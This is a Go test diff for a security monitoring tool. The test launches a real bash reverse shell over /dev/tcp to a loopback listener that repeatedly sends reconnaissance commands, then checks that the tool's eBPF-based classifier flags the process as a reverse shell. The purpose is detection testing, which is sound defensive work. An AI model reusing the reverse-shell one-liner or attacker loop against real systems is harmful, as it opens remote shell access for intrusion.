@@ -3,6 +3,8 @@ package main
 import (
 	"context"
 	"fmt"
+	"io"
+	"net"
 	"os"
 	"os/exec"
 	"path/filepath"
@@ -106,4 +108,91 @@ engines:
 	for _, r := range all {
 		t.Logf("report: %s %s", r.Model, r.Explanation)
 	}
+}
+
+// TestUpShippedClassifierReportsReverseShell runs `vigil up
+// --agent-syscalls` with the built-in resource object, whose classify
+// engine runs the model shipped in the binary, and starts a real reverse
+// shell on this machine: bash -i over a TCP connection to a listener of
+// the test's on loopback that sends it commands every second (as an
+// attacker at the other end would). The engine reports that bash process
+// as the known-bad tool "reverse-shell", naming its pid, within the
+// classifier's reach: ten one-second vectors and three sequences in a row.
+func TestUpShippedClassifierReportsReverseShell(t *testing.T) {
+	if os.Geteuid() != 0 {
+		t.Skip("skipped: counting system calls with eBPF needs root (or CAP_BPF and CAP_PERFMON)")
+	}
+	bash, err := exec.LookPath("bash")
+	if err != nil {
+		t.Skip("skipped: no bash")
+	}
+	dir := t.TempDir()
+	httpPort, busPort := testutil.FreePort(t), testutil.FreePort(t)
+	base := fmt.Sprintf("http://127.0.0.1:%d", httpPort)
+	start(t, "up", "--listen", fmt.Sprintf("127.0.0.1:%d", httpPort), "--bus-listen", fmt.Sprintf("127.0.0.1:%d", busPort),
+		"--data", filepath.Join(dir, "data"), "--agent-host-id", "shell-host", "--agent-syscalls")
+	waitHTTP(t, base+"/healthz", 20*time.Second)
+
+	// The attacker's end: every second, a few commands.
+	ln, err := net.Listen("tcp", "127.0.0.1:0")
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer ln.Close()
+	ctx, cancel := context.WithCancel(t.Context())
+	defer cancel()
+	go func() {
+		c, err := ln.Accept()
+		if err != nil {
+			return
+		}
+		defer c.Close()
+		go func() { _, _ = io.Copy(io.Discard, c) }()
+		tick := time.NewTicker(time.Second)
+		defer tick.Stop()
+		for {
+			if _, err := io.WriteString(c, "id; uname -a; ls -la /etc | wc -l; cat /etc/hostname /proc/loadavg\n"); err != nil {
+				return
+			}
+			select {
+			case <-ctx.Done():
+				return
+			case <-tick.C:
+			}
+		}
+	}()
+	port := ln.Addr().(*net.TCPAddr).Port
+	cmd := exec.CommandContext(ctx, bash, "-c", fmt.Sprintf("exec bash -i >& /dev/tcp/127.0.0.1/%d 0>&1", port))
+	// Its home is the test's: an interactive bash reads no startup file
+	// of the machine's user.
+	cmd.Env = []string{"HOME=" + dir, "PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin", "TERM=dumb"}
+	if err := cmd.Start(); err != nil {
+		t.Fatal(err)
+	}
+	defer func() { cancel(); _ = cmd.Wait() }()
+	started := time.Now()
+
+	var reps []struct {
+		Host, State string
+		Attrs       map[string]any
+	}
+	testutil.WaitFor(t, 45*time.Second, "a non-grata report about the reverse shell's bash", func() bool {
+		reps = nil
+		getJSON(t, base+"/api/reports?model=classify:non-grata", &reps)
+		for _, r := range reps {
+			if pid, _ := r.Attrs["pid"].(float64); int(pid) == cmd.Process.Pid {
+				return true
+			}
+		}
+		return false
+	})
+	for _, r := range reps {
+		if pid, _ := r.Attrs["pid"].(float64); int(pid) != cmd.Process.Pid {
+			continue
+		}
+		if r.Host != "shell-host" || r.State != "NonGrata" || r.Attrs["class"] != "nongrata:reverse-shell" || r.Attrs["process"] != "bash" {
+			t.Fatalf("report %+v: want the reverse-shell class about bash", r)
+		}
+	}
+	t.Logf("reported %.1f s after the shell started", time.Since(started).Seconds())
 }
